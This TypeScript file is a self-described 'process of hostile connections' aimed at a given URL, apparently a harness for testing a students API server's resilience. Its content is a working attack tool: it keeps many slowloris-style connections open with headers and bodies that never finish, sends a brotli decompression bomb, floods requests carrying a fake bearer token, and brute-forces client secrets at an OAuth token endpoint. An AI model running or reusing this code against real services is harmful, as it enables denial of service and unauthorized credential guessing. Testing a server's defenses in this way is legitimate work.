// A process of hostile connections: `node attacker.ts URL`. It says "ready" when all are open, and goes
// on until it is ended.
import { connect, type Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { brotliCompressSync } from "node:zlib";
const [url = ""] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);
const stranger = `Authorization: Bearer ${"0".repeat(32)}\r\n`;
const path = "/api/v2.0/2017/students";
const bomb = brotliCompressSync(`{"a":[${"{},".repeat(2_000_000)}{}]}`);
const coded = `Content-Type: application/json\r\nContent-Encoding: br\r\nContent-Length: ${bomb.length}\r\n`;
const json = "Content-Type: application/json\r\n";

const each = 40;
/** Milliseconds between two requests of a connection that sends many. */
const pause = 500;

function open(): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => resolve(socket));
    socket.on("error", () => {});
  });
}

/** Sends a beginning, and then a byte a second, as long as it is let. */
async function trickle(beginning: string): Promise<void> {
  for (;;) {
    const socket = await open();
    socket.resume();
    socket.write(beginning);
    while (!socket.destroyed && socket.writable) {
      await wait(1000);
      if (socket.writable) socket.write("x");
    }
    await wait(pause);
  }
}

/** Sends one whole request after the other, each on a connection of its own. */
async function repeat(fields: string, method: string, at: string, body: Uint8Array | string) {
  for (;;) {
    const socket = await open();
    const closed = new Promise<void>((done) => socket.once("close", () => done()));
    socket.resume();
    socket.write(`${method} ${at} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${fields}\r\n`);
    socket.write(body);
    await closed;
    await wait(pause);
  }
}

const secret = (at: number) =>
  `Client_id=key-1&Client_secret=guess-${at}&grant_type=client_credentials`;
const form = (body: string) =>
  `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n`;

const kinds: readonly ((at: number) => Promise<unknown>)[] = [
  // A head that never ends.
  () => trickle(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `),
  // A body that never ends, for the token operation, which needs no handle.
  () =>
    trickle(`POST /oauth/token HTTP/1.1\r\nHost: ${host}\r\n${json}Content-Length: 900000\r\n\r\n`),
  // A body that would grow.
  () => repeat(stranger + coded, "POST", path, bomb),
  // Reads with a made-up handle.
  () => repeat(stranger, "GET", path, ""),
  // Guesses.
  (at) => repeat(form(secret(at)), "POST", "/oauth/token", secret(at)),
];

for (let at = 0; at < each; at++) for (const kind of kinds) void kind(at);
await wait(1500);
console.log("ready");
